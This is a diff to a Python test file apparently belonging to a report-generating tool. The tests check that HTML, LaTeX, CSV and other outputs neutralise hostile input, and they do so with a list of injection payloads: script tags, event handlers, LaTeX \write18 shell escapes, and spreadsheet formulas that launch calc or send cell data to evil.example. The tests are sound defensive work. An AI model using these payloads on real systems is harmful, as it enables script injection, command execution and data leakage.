@@ -15,6 +15,7 @@ import json
 import re
 import shutil
 import subprocess
+import tomllib
 import unicodedata
 from collections.abc import Callable, Iterator, Mapping
 from html.parser import HTMLParser
@@ -25,7 +26,6 @@ from xml.etree import ElementTree as ET
 
 import pytest
 import tomli_w
-import tomllib
 
 import robustcode
 from robustcode.reports import report
@@ -40,15 +40,15 @@ CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser"))
 CANARY = "robustcodecanary"
 # Each begins a text that is then followed by the next ones.
 PAYLOADS = (
-    '<script>window.x=1;alert(1)</script>',
+    "<script>window.x=1;alert(1)</script>",
     '"></style></title></pre></textarea><script>window.x=2</script>',
     "]]><!--\u2028--><img src=x onerror=window.x=3;alert(3)>",
     "javascript:window.x=4",
-    "\" onmouseover=\"window.x=5\" autofocus onfocus='window.x=5' style=\"x\"",
+    '" onmouseover="window.x=5" autofocus onfocus=\'window.x=5\' style="x"',
     "{{ 7 * 191 }} << 7 * 191 >> <% raw %> ${7*191}",
     rf"\input{{{CANARY}}} \write18{{touch {CANARY}}} \openin5={CANARY} ^^5cinput{{{CANARY}}}",
     r"\end{verbatim}\end{tabular}\end{document} $x_{1}^2$ % & # _ ~ ^ \\ {{{ }",
-    "=HYPERLINK(\"http://evil.example/\"&A1)",
+    '=HYPERLINK("http://evil.example/"&A1)',
     "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -63,12 +63,12 @@ PAYLOADS = (
     "\x00\x01\x07\x1b[31m\x1f\x7f\u0085",
     "\u202eevil\u202c \u2066x\u2069 \u200f\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
     "\U0001f469\u200d\U0001f52c \U0001f1e9\U0001f1ea e\u0301 \u65e5\u672c\u8a9e \ufffe",
-    "a" * 100_000,
-    "^W\u05e9 " * 25_000,
     "[u] [1em]",
     "*",
     "\ud800 lone \udfff",
 )
+# Of 100,000 letters each: in one word, and in words of marks that other formats must spell out.
+LONG = ("a" * 100_000, "^W\u65e5 " * 25_000)
 # TOML holds no lone surrogates and no control characters.
 IN_TOML = tuple(
     text for text in PAYLOADS if not any(unicodedata.category(c) in ("Cs", "Cc") for c in text)
@@ -135,6 +135,7 @@ def spoilt(run: Path, labels: bool = True) -> Path:
             said[key] = say.text(f"{key}")
         said["checks"] = [say.within(check) for check in said["checks"]]
         said["checks"] += [{**check, "status": "passed"} for check in said["checks"][:20]]
+        said["checks"][0] |= {"said": LONG[0], "group": LONG[1]}
         said["repairs"] = [say.within(repair) for repair in said.get("repairs") or []]
         if said.get("certified"):
             for key in ("method", "subject"):
@@ -145,7 +146,7 @@ def spoilt(run: Path, labels: bool = True) -> Path:
         for key in ("versions", "git", "data_sha256"):
             said[key] = say.all(said[key] | {"text": "text"})
         said["checkpoint_sha256"] = say.text("sha")
-        said["class_names"] = [say.text(f"class {number}") for number in range(10)]
+        said["class_names"] = [*LONG, *(say.text(f"class {number}") for number in range(2, 10))]
         for shard in said["shards"]["files"].values():
             for name in shard["sha256"]:
                 shard["sha256"][name] = hashlib.sha256((run / name).read_bytes()).hexdigest()
@@ -159,8 +160,9 @@ def spoilt(run: Path, labels: bool = True) -> Path:
         "figures": {"key": "value", "number": 0.5},
         "samples": [1, "sample"],
     }
-    findings = [say.all(finding, keys=False) | {"severity": "failure"} for _ in PAYLOADS]
-    findings += [say.within(finding, "figures") for _ in range(3)]
+    findings = [say.within(finding, "figures")]
+    findings += [{key: text for key in ("code", "severity", "what", "remedy")} for text in PAYLOADS]
+    findings += [{**finding, "what": text, "figures": {text: text}} for text in LONG]
     edited(run / "summary.json", summary)
     edited(run / "manifest.json", manifest)
     (run / "findings.json").write_text(json.dumps(findings))
@@ -228,23 +230,24 @@ class Page(HTMLParser):
         self.other.append(data)
 
 
-ELEMENTS = set(
-    "html head meta title style body a main header section nav div p span code pre h1 h2 h3 h4 ul "
-    "ol li dl dt dd table caption thead tbody tr th td figure figcaption img details summary script wbr "
-    "noscript form label select input button dialog".split()
-)
-ATTRIBUTES = set(
-    "id class lang charset name content http-equiv href src width height alt role scope tabindex "
-    "hidden open type for autocomplete inputmode size aria-label aria-labelledby aria-hidden "
-    "data-step data-close data-order loading decoding title".split()
-)
+# What templates are made of.
+ELEMENTS = """
+html head meta title style body a main header section nav div p span code pre h1 h2 h3 h4 ul ol li
+dl dt dd table caption thead tbody tr th td figure figcaption img details summary script noscript
+wbr form label select input button dialog
+"""
+ATTRIBUTES = """
+id class lang charset name content http-equiv href src width height alt role scope tabindex hidden
+open type for autocomplete inputmode size aria-label aria-labelledby aria-hidden data-step
+data-close data-order loading decoding title
+"""
 
 
 def test_a_page_holds_no_element_attribute_or_script_from_outside(files: dict[str, Path]) -> None:
     text = files["html"].read_text()
     page = Page(text)
-    assert page.elements - ELEMENTS == set()
-    assert {name for _, name in page.attributes} - ATTRIBUTES == set()
+    assert page.elements - set(ELEMENTS.split()) == set()
+    assert {name for _, name in page.attributes} - set(ATTRIBUTES.split()) == set()
     assert all(link.startswith(("data:image/", "#")) for link in page.links)
     assert page.other == []
     ours = {path.read_text() for path in TEMPLATES.glob("*.js")}
@@ -272,7 +275,12 @@ def test_nothing_fires_in_a_browser(files: dict[str, Path]) -> None:
         play.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"]) as browser,
     ):
         page = browser.new_page()
-        page.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))
+
+        def heard(dialog: Any) -> None:
+            said.append(dialog.message)
+            dialog.dismiss()
+
+        page.on("dialog", heard)
         page.on("console", lambda message: said.append(message.text))
         page.on("pageerror", lambda error: said.append(str(error)))
         page.on("popup", lambda popup: said.append(popup.url))
@@ -332,9 +340,7 @@ def test_markdown_renders_without_a_link_an_image_or_html_from_outside(
 
 
 @pytest.mark.skipif(PDFLATEX is None, reason="there is no pdflatex on the path")
-def test_latex_compiles_and_reads_and_runs_nothing(
-    files: dict[str, Path], tmp_path: Path
-) -> None:
+def test_latex_compiles_and_reads_and_runs_nothing(files: dict[str, Path], tmp_path: Path) -> None:
     assert PDFLATEX
     for path in files.values():
         if path.suffix in (".tex", ".pdf"):
@@ -354,6 +360,7 @@ def test_latex_compiles_and_reads_and_runs_nothing(
 def test_no_cell_of_csv_starts_a_formula(files: dict[str, Path]) -> None:
     with files["csv"].open(newline="", encoding="utf-8") as file:
         header, *rows = csv.reader(file)
+    csv.field_size_limit(10**7)
     texts = {"run", "kind", "name", "settings", "status", "said"}
     found = 0
     for row in rows:
@@ -364,7 +371,7 @@ def test_no_cell_of_csv_starts_a_formula(files: dict[str, Path]) -> None:
             assert "\t" not in value
             if name in texts:
                 # Spaces and quotes are what spreadsheets take away.
-                bare = value.strip(" \u00a0\"")
+                bare = value.strip(' \u00a0"')
                 assert not bare.startswith(tuple("=+-@\uff1d\uff0b\uff0d\uff20"))
                 found += bare.startswith("'")
             elif value:
